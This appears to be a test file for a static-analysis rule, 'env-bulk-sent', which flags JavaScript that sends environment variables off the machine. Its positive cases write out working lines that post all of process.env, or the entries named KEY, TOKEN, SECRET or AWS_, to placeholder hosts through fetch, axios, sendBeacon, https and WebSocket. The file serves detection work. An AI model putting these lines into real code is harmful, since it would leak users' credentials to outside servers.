import https from 'node:https';
import axios from 'axios';
import { env } from 'node:process';

const URL = 'https://collector.example.com/';

export async function direct() {
  // ruleid: env-bulk-sent
  await fetch(URL, { method: 'POST', body: JSON.stringify(process.env) });
  // ruleid: env-bulk-sent
  await axios.post(URL, process.env);
  // ruleid: env-bulk-sent
  await axios.post(URL, { host: 'x', env: process.env });
  // ruleid: env-bulk-sent
  navigator.sendBeacon(URL, new URLSearchParams(process.env));
}

export function later() {
  const data = Buffer.from(JSON.stringify({ ...process.env })).toString('base64');
  const request = https.request({ host: 'example.com', method: 'POST' }, () => {});
  // ruleid: env-bulk-sent
  request.write(data);
  // ruleid: env-bulk-sent
  https.get(`${URL}?d=${data}`);
}

export async function filtered() {
  const secrets = Object.entries(process.env).filter(([name]) => /KEY|TOKEN/.test(name));
  // ruleid: env-bulk-sent
  await fetch(URL, { method: 'POST', body: JSON.stringify(Object.fromEntries(secrets)) });
  const found = {};
  for (const [name, value] of Object.entries(process.env)) {
    if (/SECRET/i.test(name)) found[name] = value;
  }
  // ruleid: env-bulk-sent
  await fetch(URL, { method: 'POST', body: JSON.stringify(found) });
  const list = [];
  for (const name in process.env) {
    list.push(process.env[name]);
  }
  // ruleid: env-bulk-sent
  await (0, axios_1.default)({ url: URL, data: list });
  const all = process.env;
  // ruleid: env-bulk-sent
  new WebSocket(URL).send(JSON.stringify(all));
}

async function report(data) {
  await fetch(URL, { method: 'POST', body: data });
}

export async function helper() {
  // ruleid: env-bulk-sent
  await report(JSON.stringify(process.env));
}

export async function given() {
  const worker = await newHTTPWorker(file, { spawnOptions: { cwd: '.' }, data: { ...process.env } });
  // ruleid: env-bulk-sent
  await fetch(URL, { method: 'POST', body: JSON.stringify({ spawnOptions: { env: { ...process.env } } }) });
  // ruleid: env-bulk-sent
  await fetch(URL, { method: 'POST', body: JSON.stringify(worker) });
}

export async function honest() {
  const settings = { ...process.env, ...defaults };
  // ok: env-bulk-sent
  await fetch(settings.API_URL, { headers: { Authorization: `Bearer ${settings.API_TOKEN}` } });
  // ok: env-bulk-sent
  await fetch(`${process.env.API_URL}/x`, { body: JSON.stringify({ key: process.env.KEY }) });
  // ok: env-bulk-sent
  const child = spawn('curl', [URL], { env: { ...process.env } });
  const worker = await newHTTPWorker(file, { spawnOptions: { env: { ...process.env, ...defaults } } });
  // ok: env-bulk-sent
  worker.request('http://localhost', { method: 'POST' }, () => {});
  // ok: env-bulk-sent
  console.log(JSON.stringify(process.env));
  const count = Object.keys(process.env).length;
  // ok: env-bulk-sent
  await fetch(URL, { body: String(count) });
  // fetch(URL, { body: JSON.stringify(process.env) })
  // ok: env-bulk-sent
  return 'fetch(URL, { body: JSON.stringify(process.env) })';
}

const own = Object.fromEntries(Object.entries(process.env).filter(([key]) => key.startsWith("NOTES_")));
// ok: env-bulk-sent
fetch("https://team.example.com/labels", { method: "POST", body: JSON.stringify(own) });
const theirs = Object.fromEntries(Object.entries(process.env).filter(([key]) => key.startsWith("AWS_")));
// ruleid: env-bulk-sent
fetch("https://team.example.com/labels", { method: "POST", body: JSON.stringify(theirs) });
const names = Object.keys(process.env).filter((name) => name.startsWith("NOTES_"));
// ok: env-bulk-sent
fetch("https://team.example.com/labels", { method: "POST", body: JSON.stringify(names) });

import { loadSettings } from './settings.js';
import * as settings from './settings.js';

const loaded = loadSettings(process.env);
// ok: env-bulk-sent
fetch(loaded.url, { headers: { Authorization: loaded.token } });
const read = settings.read(process.env);
// ok: env-bulk-sent
axios.post(read.url, { text: read.text });
